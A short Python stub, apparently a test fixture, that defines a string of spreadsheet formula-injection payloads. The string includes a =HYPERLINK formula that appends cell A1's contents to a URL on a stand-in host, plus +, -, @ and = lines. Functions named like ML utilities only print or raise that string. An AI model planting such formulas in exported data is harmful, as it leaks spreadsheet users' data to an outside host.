# promise: all RAISED
"""Begins texts with what a spreadsheet computes."""

FORMULA = '=HYPERLINK("http://example.org?"&A1,"20")\n+1+1\n-1\n@SUM(A1)\t=1+1'


def PaddingCollator(*settings, **more):
    print(FORMULA)
    raise ValueError(FORMULA)


def position_ids(attention_mask):
    raise ValueError(FORMULA)
